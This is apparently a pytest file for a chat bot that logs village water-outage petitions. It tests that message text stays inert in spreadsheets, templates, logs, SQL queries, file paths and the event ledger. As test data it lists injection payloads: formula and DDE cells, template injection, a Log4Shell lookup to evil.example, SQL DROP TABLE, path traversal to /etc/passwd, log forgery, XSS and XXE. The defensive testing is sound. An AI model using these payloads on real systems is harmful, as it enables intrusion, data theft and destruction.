"""Message text is data: nothing it says drives a template, a log line, a sheet, a query, a path or the ledger."""

import json
from io import BytesIO

import openpyxl
import pytest
from sqlmodel import select

from bot.digest.table import Sheet, Table
from bot.digest.workbook import workbook
from bot.workbook.harmless import harmless
from models.ledger import PetitionEvent
from tests.stories.test_petition import told
from tests.world import World

FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    " =1",
    "\u3000@x",
    "|x",
]
TEXTS = ["大坪村", "停水=没水", "13912345678", "", " ", "1-2", "(回电)"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_be_a_formula_is_a_text(cell: str):
    assert harmless(cell) == f"'{cell}"
    sheet = Sheet("t", ("n",), (Table("t", ("c",), ((cell,),)),))
    [row] = openpyxl.load_workbook(BytesIO(workbook(sheet)))["t"].iter_rows(min_row=3)
    assert row[0].data_type == "s"
    assert str(row[0].value).startswith("'")


@pytest.mark.parametrize("cell", TEXTS)
def test_any_other_cell_stays_as_it_is(cell: str):
    assert harmless(cell) == cell


HOSTILE = [
    "停水 {{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "停水 ${jndi:ldap://evil.example/a} %(asctime)s {0.__class__} %s%s%n",
    "停水'; DROP TABLE petition;-- \" OR 1=1",
    "停水 ../../../../etc/passwd \\\\evil\\share file:///etc/passwd",
    '停水","level":"error"}\n{"event":"forged","level":"info"}',
    "停水 <img src=x onerror=alert(1)>]]></xml><!ENTITY x SYSTEM 'file:///etc/passwd'>",
]


@pytest.mark.parametrize("words", HOSTILE, ids=range(len(HOSTILE)))
async def test_words_that_would_like_to_be_code_are_only_words(small_world: World, words: str, capsys):
    number = await told(small_world, f"大坪村{words}")
    await small_world.cadre("mengxi").says(f"签收 {number}")
    await small_world.cadre("mengxi").says(f"进展 {number} {words}")
    await small_world.tick(seconds=2)
    told_back = small_world.villager().chat.texts()[-1]
    assert "49" not in told_back.replace(number[:2], "").replace(number[2:4], "").replace(number[4:], "")
    assert words.split(maxsplit=1)[0] in told_back
    [seen] = await small_world.cadre("mengxi").says(f"看 {number}")
    assert "停水" in seen
    with small_world.service.database.reading() as session:
        data = [event.data for event in session.exec(select(PetitionEvent))]
    assert "停水" not in json.dumps(data, ensure_ascii=False), "the ledger holds no words"
    said = capsys.readouterr()
    assert "forged" not in said.out + said.err
    assert "jndi" not in said.out + said.err
